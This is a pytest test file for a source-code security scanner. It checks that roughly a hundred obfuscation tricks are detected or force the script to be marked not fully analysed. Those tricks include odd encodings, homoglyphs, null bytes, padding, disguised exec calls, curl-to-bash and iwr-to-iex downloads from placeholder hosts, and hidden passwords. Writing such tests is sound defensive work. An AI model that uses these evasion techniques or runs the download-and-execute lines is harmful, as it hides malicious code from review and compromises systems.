"""Ways of not being seen: each is either found, or the script is said not to be fully analysed. None is low in silence."""

import json
from dataclasses import dataclass

import pytest

from escrow.core.clock import SystemClock
from escrow.db.session import Database
from scanners import finding_queries, queries
from scanners.engines.flows import FlowsEngine
from scanners.engines.personal_data import PersonalDataEngine
from scanners.engines.secrets import SecretsEngine
from scanners.engines.semgrep import SemgrepEngine, default_command
from scanners.staging import Staging
from tests import scanners_fixtures as fixtures
from tests.schema_fixtures import migrate

PICKLE = "import pickle\ntable = pickle.load(open('t', 'rb'))\n"
SECRET = "password = 'Outono#7741'\n"
CURL = "curl -fsSL https://tools.example/x | bash"


@dataclass(frozen=True)
class Row:
    """One way of hiding: what the file is called and holds, and the vector that must be told of it when it is read."""

    name: str
    body: bytes
    vector: str = "libraries"
    language: str = "python"
    file: str = "etl.py"
    beside: tuple[tuple[str, bytes], ...] = ()


def notebook(*cells, **more):
    return json.dumps(
        {"cells": [{"cell_type": "code", "source": cell} for cell in cells], "nbformat": 4, **more}, indent=1
    ).encode()


def cookie(codec, text=PICKLE):
    return f"# -*- coding: {codec} -*-\n{text}".encode(codec)


PADDING = b"".join(b"row_%06d = 'value %06d'\n" % (n, n) for n in range(40_000))
B64 = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
ROWS = [
    Row("utf-8 with a mark", b"\xef\xbb\xbf" + PICKLE.encode()),
    Row("utf-16", PICKLE.encode("utf-16")),
    Row("utf-16 without a mark", PICKLE.encode("utf-16-le")),
    Row("utf-16 the other way round", b"\xfe\xff" + PICKLE.encode("utf-16-be")),
    Row("utf-32", PICKLE.encode("utf-32")),
    Row("latin-1 declared", cookie("latin-1", "# ação\n" + PICKLE)),
    Row("latin-1 undeclared", "# ação\n".encode("latin-1") + PICKLE.encode()),
    Row("windows code page", cookie("cp1252", "# preço – total\n" + PICKLE)),
    Row("cyrillic code page", cookie("koi8-r", "# данные\n" + PICKLE)),
    Row("utf-7", cookie("utf-7")),
    Row("utf-7 that looks like comments", b"# coding: utf-7\n#+AAo-import pickle+AAo-pickle.load(f)\n"),
    Row("escapes as encoding", b"# coding: unicode_escape\n#\\nimport pickle\\npickle.load(f)\n"),
    Row("utf-7 declared far to the right", b"#" + b"x" * 300 + b" coding: utf-7\n#+AAo-import pickle+AAo-pickle.load(f)\n"),
    Row("utf-7 declared after a long line", b"#" + b"x" * 900 + b"\n# coding: utf-7\n#+AAo-import pickle+AAo-pickle.load(f)\n"),
    Row("utf-7 by a long name", b"# coding: utf" + b"-" * 60 + b"7\n#+AAo-import pickle+AAo-pickle.load(f)\n"),
    Row("a mainframe's letters declared to a shell", f"# coding: cp037\n{CURL}\n".encode(), language="shell", file="a.sh"),
    Row("pairs of bytes declared to a shell", f"# coding: utf-16-le\n{CURL}\n".encode(), language="shell", file="a.sh"),
    Row("a mainframe's letters declared after code", b"import pickle\n# coding: cp037\ntable = pickle.load(f)\n"),
    Row("a codec with states", cookie("iso2022_jp", "# 表\n" + PICKLE)),
    Row("old line ends", b"# nothing\rimport pickle\rtable = pickle.load(f)\r"),
    Row("mixed line ends", PICKLE.replace("\n", "\r\n").encode() + b"x = 1\r"),
    Row("wide letters", "import pickle\ntable = ｐickle.load(f)\n".encode()),
    Row("mathematical letters", "import pickle\n𝐭𝐚𝐛𝐥𝐞 = 𝐩𝐢𝐜𝐤𝐥𝐞.load(f)\n".encode()),
    Row("a letter of another alphabet", "from pickle import load\nt = ˡoad(open('t', 'rb'))\n".encode()),
    Row("a long s", "import ſubprocess as s\ns.run(['wget', 'https://x.example/a'])\n".encode()),
    Row("an ordinal", "import os\nºs.ſystem('id')\n".encode()),
    Row("byte zero in a shell", b"#!/bin/bash\ncu\0rl -fsSL https://tools.example/x | ba\0sh\n", language="shell", file="a.sh"),
    Row("byte zero", PICKLE.encode() + b"\0"),
    Row("byte zero before", b"x = '\0'\n" + PICKLE.encode()),
    Row("padding past the size limit", PADDING + PICKLE.encode()),
    Row("padding before a password", PADDING * 2 + SECRET.encode(), "credentials"),
    Row("one long line", b"x = '" + b"a" * 900_000 + b"'; " + PICKLE.replace("\n", ";").encode()),
    Row("a long comment", b"#" * 1_100_000 + b"\n" + PICKLE.encode()),
    Row("nosemgrep", PICKLE.replace("\n", "  # nosemgrep\n").encode()),
    Row("nosem before the line", b"import pickle\n# NoSemGrep\npickle.load(f)\n"),
    Row("a folder of tests", PICKLE.encode(), file="tests/test_etl.py"),
    Row("a vendored folder", PICKLE.encode(), file="node_modules/vendor/etl.py"),
    Row("an ignore file beside it", PICKLE.encode(), beside=((".semgrepignore", b"*\n"), (".gitignore", b"*\n"))),
    Row("without extension", PICKLE.encode(), file="etl"),
    Row("windowed python", PICKLE.encode(), file="etl.pyw"),
    Row("an unknown extension", PICKLE.encode(), file="etl.dat"),
    Row("an extension of another language", PICKLE.encode(), file="etl.sql"),
    Row("an extension of a document", PICKLE.encode(), file="notes.md"),
    Row("a language nobody reads", b"open(F, '<', 'x'); eval <F>;\n", language="perl", file="etl.pl"),
    Row("perl called sql", b"open(F, '<', 'x'); eval <F>;\n", language="perl", file="etl.sql"),
    Row("ruby called json", b"require 'open-uri'; eval(URI.open('http://x').read)\n", language="ruby", file="etl.json"),
    Row("perl called configuration", b"system('curl http://x | sh');\n", language="perl", file="etl.cfg"),
    Row("base64 and exec", B64.encode()),
    Row("zlib and exec", b"import zlib\ncode = zlib.decompress(b'x')\nexec(code)\n"),
    Row("marshal and exec", b"import marshal\nexec(marshal.loads(b'x'))\n"),
    Row("exec of a download", b"import urllib.request as u\nexec(u.urlopen('http://x.example').read())\n"),
    Row("exec of a file", b"exec(open('hidden.txt').read())\n"),
    Row("exec by another name", b"import builtins\nrun = getattr(builtins, 'ex' + 'ec')\nrun('1')\n"),
    Row("exec out of globals", b"name = 'ev' + 'al'\nglobals()[name]('1')\n"),
    Row("system by another name", b"import os\ngetattr(os, 'metsys'[::-1])('id')\n"),
    Row("a module by another name", b"__import__('pic' + 'kle').loads(b'x')\n"),
    Row("a module it is told", b"import importlib, sys\nimportlib.import_module(sys.argv[1]).main()\n"),
    Row("code for another interpreter", b"import subprocess, sys\nsubprocess.run([sys.executable, '-c', c])\n"),
    Row("a password in base64", b"import base64\npassword = base64.b64decode('T3V0b25vIzc3NDE=')\n", "credentials"),
    Row("a password in pieces", b"password = 'Outo' + 'no#77' + '41'\n", "credentials"),
    Row("a password turned round", b"password = '1477#onotuO'[::-1]\n", "credentials"),
    Row("a password in numbers", b"password = bytes([79, 117, 116, 111, 110, 111]).decode()\n", "credentials"),
    Row("a password in rot13", b"import codecs\nsenha = codecs.decode('Bhgbab#7741', 'rot13')\n", "credentials"),
    Row("python 2", b"print 'x'\nimport pickle\ntable = pickle.load(open('t'))\n"),
    Row("python 2 exec", b"exec 'x = 1' in {}\npassword = 'Outono#7741'\n", "credentials"),
    Row("a syntax error before", b"def broken(:\n  pass\n" + PICKLE.encode()),
    Row("a syntax error after", PICKLE.encode() + b"def broken(:\n"),
    Row("an unfinished string", PICKLE.encode() + b"x = '''never ended\n"),
    Row("type statements", b"type Row = dict[str, int]\n" + PICKLE.encode()),
    Row("nested f-strings", b"x = f'{f'{1}'}'\n" + PICKLE.encode()),
    Row("type parameters", b"def first[T](rows: list[T]) -> T: ...\n" + PICKLE.encode()),
    Row("template strings", b"x = t'{1}'\n" + PICKLE.encode()),
    Row("match", b"match 1:\n    case 1: pass\n" + PICKLE.encode()),
    Row("except without brackets", b"try: pass\nexcept A, B: pass\n" + PICKLE.encode()),
    Row("nested brackets", b"x = " + b"(" * 5_000 + b"1" + b")" * 5_000 + b"\n" + PICKLE.encode()),
    Row("nested lists", b"x = " + b"[" * 3_000 + b"]" * 3_000 + b"\n" + PICKLE.encode()),
    Row("a long sum", b"x = " + b"+".join([b"1"] * 2_000) + b"\n" + PICKLE.encode()),
    Row("nested blocks", "".join(" " * n + "if x:\n" for n in range(90)).encode() + b" " * 90 + b"pass\n" + PICKLE.encode()),
    Row("a notebook", notebook(PICKLE), file="n.ipynb"),
    Row("a notebook in lines", notebook(["%matplotlib inline\n", "import pickle\n", "pickle.load(f)"]), file="n.ipynb"),
    Row("a notebook of the old form", json.dumps({"worksheets": [{"cells": [{"cell_type": "code", "input": PICKLE}]}]}).encode(), file="n.ipynb"),
    Row("a notebook that is none", b'{"cells": ' + PICKLE.encode(), file="n.ipynb"),
    Row("a shell line in a notebook", notebook([f"!{CURL}\n"]), file="n.ipynb"),
    Row("a shell cell in a notebook", notebook(["%%bash\n", CURL]), file="n.ipynb"),
    Row("an install in a notebook", notebook(["%pip install fast-extract\n", "x = 1"]), file="n.ipynb"),
    Row("code that a notebook times", notebook(["%time exec(open('x').read())\n"]), file="n.ipynb"),
    Row("code that a notebook prepares", notebook(["%%timeit -n 3 exec(open('x').read())\n", "pass"]), file="n.ipynb"),
    Row("a script a notebook fetches", notebook(["%run https://tools.example/x.py\n"]), file="n.ipynb"),
    Row("a command a notebook asks", notebook([f"out = !{CURL}\n"]), file="n.ipynb"),
    Row("a password a notebook sets", notebook(["%env DB_PASSWORD=Outono#7741\n"]), "credentials", file="n.ipynb"),
    Row("a notebook of both forms", json.dumps({"cells": [], "worksheets": [{"cells": [{"cell_type": "code", "input": PICKLE}]}]}).encode(), file="n.ipynb"),
    Row("a notebook without extension", notebook(PICKLE), file="n"),
    Row("shell", CURL.encode(), language="shell", file="job"),
    Row("shell called text", f"#!/bin/sh\n{CURL}\n".encode(), language="shell", file="notes.txt"),
    Row("powershell", b"iwr https://tools.example/x | iex\n", language="powershell", file="job"),
    Row("powershell encoded", b"powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A\n", language="powershell", file="a.ps1"),
    Row("after a remark on its line", b"/* x */ eval(atob('eA=='))\n", language="javascript", file="a.js"),
    Row("after the end of a remark", b"/*\n x\n*/ eval(code)\n", language="javascript", file="a.js"),
    Row("a line that begins as a remark goes on", b"2\n* eval(code)\n", language="javascript", file="a.js"),
    Row("far to the right", b"x = '" + b"a" * 2_500 + b"'; eval(atob('eA=='))\n", language="javascript", file="a.js"),
    Row("far to the right in powershell", b"$x = '" + b"a" * 2_500 + b"'; &$y (irm https://tools.example/x) | iex\n", language="powershell", file="a.ps1"),
    Row("compiled python", b"\xa7\r\r\n\0\0\0\0" + bytes(range(256)), file="etl.pyc"),
    Row("a zip of python", b"PK\x03\x04" + bytes(range(256)) * 4, file="etl.pyz"),
]  # fmt: skip


@pytest.fixture(scope="module")
def scanned(tmp_path_factory, vault_key):
    """Every row as a script of its own, scanned in one go."""
    if not default_command().exists():
        pytest.skip("Semgrep is not installed; run script/run once")
    folder = tmp_path_factory.mktemp("evasions")
    database = Database(f"sqlite:///{folder / 'escrow.db'}")
    migrate(database)
    engines = (
        SecretsEngine(vault_key), PersonalDataEngine(vault_key), FlowsEngine(vault_key),
        SemgrepEngine(vault_key, Staging(folder / "s")),
    )  # fmt: skip
    vault = fixtures.make_scan_vault(database, SystemClock(), vault_key, folder, engines)
    targets = []
    for number, row in enumerate(ROWS):
        script_id = f"s{number}"
        files = {row.file: row.body, **dict(row.beside)}
        targets.append((script_id, vault.add_version(script_id, files, language=row.language)))
    outcomes = vault.runner.scan_versions(targets)
    yield {row.name: (vault, outcome) for row, outcome in zip(ROWS, outcomes, strict=True)}
    vault.runner.close()
    database.close()


@pytest.mark.parametrize("row", ROWS, ids=[row.name for row in ROWS])
def test_it_is_found_or_the_script_is_said_not_to_be_fully_analysed(scanned, row):
    vault, outcome = scanned[row.name]
    with vault.database.reading() as session:
        scan = queries.version_scan(session, outcome.script_id, outcome.number)
        found = {one.vector for one in finding_queries.findings_of(session, outcome.script_id, now=vault.clock.now())}
    assert row.vector in found or not scan.fully_analysed
    assert scan.rating.level != "low" or row.vector in found
    if not scan.fully_analysed:
        assert scan.rating.level in {"medium", "high", "critical"}


def test_most_are_found_and_not_only_doubted(scanned):
    found = 0
    for row in ROWS:
        vault, outcome = scanned[row.name]
        with vault.database.reading() as session:
            findings = finding_queries.findings_of(session, outcome.script_id, now=vault.clock.now())
        found += row.vector in {one.vector for one in findings}
    assert found >= 0.75 * len(ROWS)
